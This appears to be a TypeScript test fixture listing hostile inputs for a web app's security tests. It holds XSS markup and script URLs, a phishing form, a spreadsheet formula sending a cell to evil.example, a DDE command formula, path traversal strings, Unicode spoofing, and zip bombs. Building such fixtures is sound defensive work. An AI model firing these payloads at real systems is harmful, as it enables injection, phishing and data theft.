import { zipSync } from 'fflate';

/** What strangers may put where people see it: 40 cases by name. Texts are instructions, contents, names and labels; files are dropped. */
export const texts: Readonly<Record<string, string>> = {
  // Markup
  script: '<script>window.__ran = "script"</script>',
  'image that runs': '<img src=x onerror="window.__ran = 1">',
  'svg that runs': '<svg onload="window.__ran = 1"><a xlink:href="javascript:window.__ran=1"><text>x</text></a></svg>',
  'svg with a foreign object': '<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></iframe></foreignObject></svg>',
  'frame of another': '<iframe src="//evil.example" sandbox="allow-scripts"></iframe>',
  'style for the whole page': '<style>* { display: none !important }</style><link rel="stylesheet" href="//evil.example/a.css">',
  'form that asks for a password': '<form action="https://evil.example"><input name="password" autofocus></form>',
  'base and refresh': '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  'end of the page': '</p></main></body></html><plaintext>',
  'entities': '&lt;script&gt;&#x3c;img src=x onerror=alert(1)&#62;',
  'template signs': '{{constructor.constructor("window.__ran=1")()}} ${window.__ran=1} <%= 1 %>',
  'words of our own markup': 'Hello <0>there</0> {name} {count, plural, one {#} other {#}} {',
  // Addresses
  'script address': 'javascript:window.__ran=1',
  'script address, spelled out': 'JaVa\tScRiPt:window.__ran=1',
  'data address': 'data:text/html,<script>parent.__ran=1</script>',
  'vbscript and file': 'vbscript:msgbox(1) file:///etc/passwd',
  'address with a stranger in it': 'https://datafi.example@evil.example/login',
  'our own address that does something': '/api/annotation/v1/media/../../../auth/logout',
  'media of another': '//evil.example/api/annotation/v1/media/a.png',
  'address in another script': 'https://xn--80ak6aa92e.example/аррӏе',
  // Markdown
  'link that lies': '[https://bank.example](https://evil.example)',
  'markdown script': '[free money](javascript:window.__ran=1) ![p](https://evil.example/p.png)',
  'markdown without end': `${'['.repeat(1000)}${'**'.repeat(1000)}`,
  'lists without end': `${'- '.repeat(1000)}\n${'> '.repeat(1000)}deep`,
  // Letters
  'turned round': 'gpj.\u202eexe.\u2066evil\u2069\u202c',
  'bidi without end': '\u202e\u2067'.repeat(1000) + 'abc',
  'not to be seen': 'pay\u200b\u200c\u200d\u2060\ufeff\u00ad the\u180e worker',
  'control signs': '\u0000\u0007\u001b[31mred\u001b[0m\u0085\u2028\u2029',
  'one letter under a tower': `Z${'\u0335\u0489\u0321'.repeat(500)}`,
  'half of a letter': 'a \ud83d b \udc00 c',
  'one long word': 'W'.repeat(20_000),
  'very long': 'All work and no play. '.repeat(5000),
  // Tables and names
  formula: '=HYPERLINK("https://evil.example?"&A1,"Click")',
  'formula that calls': "@SUM(1+1)*cmd|' /C calc'!A0",
  'names of objects': '__proto__',
};

const utf8 = (text: string) => new TextEncoder().encode(text);

/** A zip whose one entry says that it is as long as a zip can say. */
function lying(): Uint8Array {
  const zip = zipSync({ 'bundle.json': [utf8('{}'), { level: 0 }] });
  new DataView(zip.buffer).setUint32(22, 0xffffffff, true);
  return zip;
}

/** Files that are dropped on “verify a bundle”. */
export const files: Readonly<Record<string, () => Uint8Array>> = {
  'zip bomb': () => zipSync({ 'bundle.json': new Uint8Array(32 << 20) }, { level: 9 }),
  'zip in a zip': () => zipSync({ 'a.zip': zipSync({ 'b.zip': zipSync({ 'bundle.json': new Uint8Array(1 << 20) }) }) }),
  'name that climbs and marks up': () => zipSync({ '../../etc/<img src=x onerror=alert(1)>.json': [utf8('{}'), { level: 0 }] }),
  'size that lies': lying,
  'page in place of a bundle': () => utf8('<!doctype html><script>parent.__ran=1</script>'),
};
